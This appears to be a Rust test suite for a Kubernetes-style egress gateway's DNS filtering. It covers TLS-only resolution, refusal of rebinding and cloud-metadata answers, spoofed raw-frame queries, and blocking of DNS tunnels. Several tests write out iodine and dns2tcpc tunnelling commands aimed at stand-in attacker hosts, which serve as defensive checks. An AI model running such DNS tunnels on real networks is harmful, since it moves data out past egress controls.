//! Look-ups of a pod: answered by the gateway's resolver, by policy; nothing else leaves.

use std::net::{IpAddr, SocketAddr};

use anyhow::{Result, ensure};
use egress_tests::{
    agent::Config,
    internet::{self, RESOLVER_NAME, RESOLVER_TLS, RESOLVER4, RESOLVER6},
    scene::Scene,
};

/// Asks for a record and prints the response's code and addresses.
const QUERY: &str = r#"
import random, socket, struct, sys
server, port, name, kind, tcp = sys.argv[1], 53, sys.argv[2], int(sys.argv[3]), sys.argv[4] == "tcp"
query = struct.pack("!HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0)
for label in name.encode().split(b"."):
    query += bytes([len(label)]) + label
query += b"\0" + struct.pack("!HH", kind, 1)
family = socket.AF_INET6 if ":" in server else socket.AF_INET
s = socket.socket(family, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
s.settimeout(5)
if tcp:
    s.connect((server, port))
    s.sendall(struct.pack("!H", len(query)) + query)
    stream = s.makefile("rb")
    answer = stream.read(struct.unpack("!H", stream.read(2))[0])
else:
    s.sendto(query, (server, port))
    answer, source = s.recvfrom(4096)
    print("from", source[0], source[1])
print("code", answer[3] & 15, "answers", struct.unpack("!H", answer[6:8])[0])
print(answer.hex())
"#;

fn ask(scene: &Scene, server: IpAddr, name: &str, kind: u16, transport: &str) -> Result<String> {
    let (server, kind) = (server.to_string(), kind.to_string());
    scene
        .pod
        .run(&["python3", "-c", QUERY, &server, name, &kind, transport])?
        .ok()
}

/// RFC 1035 section 3.2.2 and RFC 3596.
const A: u16 = 1;
const AAAA: u16 = 28;
const TXT: u16 = 16;

#[test]
fn an_allowed_name_is_answered_whomever_one_asks() -> Result<()> {
    let scene = Scene::new()?;
    let agent = scene.enforce(&Config::default())?;
    scene.capture.clear();
    let servers: [IpAddr; 4] = [
        RESOLVER4.into(),
        RESOLVER6.into(),
        "198.51.100.53".parse()?,
        "127.0.0.53".parse()?,
    ];
    for server in servers {
        for transport in ["udp", "tcp"] {
            let answer = ask(&scene, server, "allowed.test", A, transport)?;
            ensure!(
                answer.contains("code 0 answers 1"),
                "{server} {transport}: {answer}"
            );
            ensure!(answer.contains("cb00710a"), "not 203.0.113.10: {answer}");
        }
        // A resolver of libc drops an answer that comes from elsewhere than it asked.
        let answer = ask(&scene, server, "allowed.test", AAAA, "udp")?;
        ensure!(answer.contains(&format!("from {server} 53")), "{answer}");
        ensure!(answer.contains("code 0 answers 1"), "{answer}");
    }
    scene.expect_nothing("198.51.100.53".parse()?)?;
    agent.records.expect_no_report()
}

#[test]
fn names_are_looked_up_over_tls_or_not_at_all() -> Result<()> {
    for (name, is_right) in [(RESOLVER_NAME, true), ("dns.attacker.test", false)] {
        let scene = Scene::new()?;
        // Relative to the configuration, and readable to whom the gateway runs as.
        let config = Config {
            resolver: format!("\"tls://{RESOLVER4}:{RESOLVER_TLS}#{name}\""),
            gateway: "\x20 resolverRoots: authority.pem\n".into(),
            ..Config::default()
        };
        let _agent = scene.enforce(&config)?;
        scene.capture.clear();
        let answer = ask(&scene, RESOLVER4.into(), "allowed.test", A, "udp")?;
        // SERVFAIL (RFC 1035 section 4.1.1).
        let want = match is_right {
            true => "code 0 answers 1",
            false => "code 2 answers 0",
        };
        ensure!(answer.contains(want), "{name}: {answer}");
        let arrived = scene.arrived(RESOLVER4.into())?;
        ensure!(!arrived.is_empty(), "nobody was asked");
        let in_clear = arrived.iter().any(|packet| packet.contains(b"allowed"));
        ensure!(!in_clear, "{arrived:?}");
        if is_right {
            scene.curl(&["https://allowed.test/"])?.ok()?;
        }
    }
    Ok(())
}

#[test]
fn an_allowed_name_that_leads_inside_is_answered_with_nothing_and_recorded() -> Result<()> {
    let scene = Scene::new()?;
    let config = Config {
        policy: Config::policy(&["rebind.test", "metadata.test"]),
        ..Config::default()
    };
    let agent = scene.enforce(&config)?;
    for (name, reason, address) in [
        ("rebind.test", "answer_private", "10.9.9.9"),
        ("metadata.test", "answer_metadata", "169.254.169.254"),
    ] {
        let answer = ask(&scene, RESOLVER4.into(), name, A, "udp")?;
        ensure!(answer.contains("code 0 answers 0"), "{name}: {answer}");
        let record = agent
            .records
            .wait_for("a record", |r| r.kind() == "dns" && r.reason() == reason)?;
        ensure!(record.text("/answer") == address, "{record:?}");
        ensure!(record.verdict() == "deny", "{record:?}");
    }
    Ok(())
}

#[test]
fn no_name_leads_to_what_the_operator_refuses() -> Result<()> {
    let scene = Scene::new()?;
    let networks = "[\"203.0.113.10/31\", \"2001:db8:113::a/127\"]";
    let config = Config {
        gateway: format!("\x20 refusedAnswers: {networks}\n"),
        ..Config::default()
    };
    let agent = scene.enforce(&config)?;
    scene.capture.clear();
    let answer = ask(&scene, RESOLVER4.into(), "allowed.test", A, "udp")?;
    ensure!(answer.contains("code 0 answers 0"), "{answer}");
    let to = format!("allowed.test:443:{}", internet::address4("allowed.test"));
    let denied = scene.curl(&["--resolve", &to, "https://allowed.test/"])?;
    ensure!(!denied.status.success(), "{}", denied.text());
    for kind in ["dns", "connection.open"] {
        agent.records.wait_for("its record", |record| {
            record.kind() == kind && record.reason() == "answer_refused_network"
        })?;
    }
    for address in internet::addresses("allowed.test") {
        scene.expect_nothing(address)?;
    }
    // Another one is not of these networks.
    scene.curl(&["https://www.cdn.test/"])?.ok()?;
    Ok(())
}

#[test]
fn another_name_is_refused_and_nothing_leaves() -> Result<()> {
    let scene = Scene::new()?;
    let agent = scene.enforce(&Config::default())?;
    scene.capture.clear();
    for transport in ["udp", "tcp"] {
        let answer = ask(
            &scene,
            RESOLVER4.into(),
            "secret.attacker.test",
            A,
            transport,
        )?;
        // REFUSED (RFC 1035 section 4.1.1).
        ensure!(answer.contains("code 5 answers 0"), "{transport}: {answer}");
    }
    scene.expect_nothing(RESOLVER4.into())?;
    nothing_asked(&scene, "attacker")?;
    let record = agent.records.wait_for("a record", |r| r.kind() == "dns")?;
    ensure!(
        record.text("/name").starts_with("secret.attacker.test"),
        "{record:?}"
    );
    ensure!(record.verdict() == "deny", "{record:?}");
    ensure!(record.endpoint() == "shop/orders", "{record:?}");
    Ok(())
}

#[test]
fn a_record_that_could_carry_data_is_not_asked_for() -> Result<()> {
    let scene = Scene::new()?;
    let _agent = scene.enforce(&Config::default())?;
    let answer = ask(&scene, RESOLVER4.into(), "allowed.test", TXT, "udp")?;
    ensure!(
        !answer.contains("6f7574206f662062616e64"),
        "the text came through: {answer}"
    );
    let asked = scene.world.internet.dns.queries()?;
    ensure!(
        !asked.iter().any(|query| query.starts_with("TXT")),
        "{asked:?}"
    );
    Ok(())
}

#[test]
fn a_query_from_a_raw_frame_is_dropped() -> Result<()> {
    let scene = Scene::new()?;
    let next_hop = scene.world.node.hardware_address(&scene.pod.interface)?;
    let resolver = RESOLVER4.to_string();
    let attack = ["frame", "eth0", &next_hop, "10.1.1.5", &resolver, "53"];
    egress_tests::scene::holds_in(
        &scene,
        egress_tests::scene::Vector {
            attack: &attack,
            to: RESOLVER4.into(),
            reason: "foreign_dns",
            times: 1,
        },
    )
}

#[test]
fn iodine_gets_nothing_out() -> Result<()> {
    let scene = Scene::new()?;
    let agent = scene.enforce(&Config::default())?;
    scene.capture.clear();
    let line = [
        "timeout",
        "8",
        "iodine",
        "-f",
        "-r",
        "-P",
        "secret",
        "203.0.113.99",
        "t.tunnel.test",
    ];
    let tunnel = scene.pod.run(&line)?;
    ensure!(!tunnel.status.success(), "{}", tunnel.text());
    no_tunnel(&scene)?;
    agent.records.wait_for("a refused look-up", |r| {
        r.kind() == "dns" && r.text("/name").contains("tunnel.test")
    })?;
    Ok(())
}

#[test]
fn dns2tcp_gets_nothing_out() -> Result<()> {
    let scene = Scene::new()?;
    let agent = scene.enforce(&Config::default())?;
    scene.capture.clear();
    let line = [
        "timeout",
        "8",
        "dns2tcpc",
        "-z",
        "t.tunnel.test",
        "-k",
        "secret",
        "203.0.113.99",
    ];
    scene.pod.run(&line)?;
    no_tunnel(&scene)?;
    agent.records.wait_for("a refused look-up", |r| {
        r.kind() == "dns" && r.text("/name").contains("tunnel.test")
    })?;
    Ok(())
}

#[test]
fn without_the_agent_a_tunnels_query_leaves() -> Result<()> {
    let scene = Scene::new()?;
    let line = [
        "timeout",
        "3",
        "dns2tcpc",
        "-z",
        "t.tunnel.test",
        "-k",
        "secret",
        "203.0.113.99",
    ];
    scene.pod.run(&line)?;
    let arrived = scene.arrived(internet::address4("tunnel.test").into())?;
    ensure!(
        arrived.iter().any(|packet| packet.contains(b"tunnel")),
        "{arrived:?}"
    );
    Ok(())
}

fn no_tunnel(scene: &Scene) -> Result<()> {
    scene.expect_nothing(internet::address4("tunnel.test").into())?;
    nothing_asked(scene, "tunnel")?;
    let carried = scene.capture.matching(|packet| packet.contains(b"tunnel"));
    ensure!(carried.is_empty(), "{carried:?}");
    Ok(())
}

fn nothing_asked(scene: &Scene, part: &str) -> Result<()> {
    let asked = scene.world.internet.dns.queries()?;
    ensure!(!asked.iter().any(|query| query.contains(part)), "{asked:?}");
    Ok(())
}

#[test]
fn the_gateways_resolver_is_open_to_nobody_else() -> Result<()> {
    let scene = Scene::new()?;
    let _agent = scene.enforce(&Config::default())?;
    let to: SocketAddr = "169.254.64.1:15053".parse()?;
    let answered = scene.world.node.enter(|| -> std::io::Result<bool> {
        let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
        socket.set_read_timeout(Some(std::time::Duration::from_secs(1)))?;
        // A query for allowed.test, A.
        let mut query = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        query.extend(b"\x07allowed\x04test\0\0\x01\0\x01");
        socket.send_to(&query, to).ok();
        Ok(socket.recv(&mut [0; 512]).is_ok())
    })??;
    ensure!(!answered, "a process outside every endpoint was answered");
    Ok(())
}
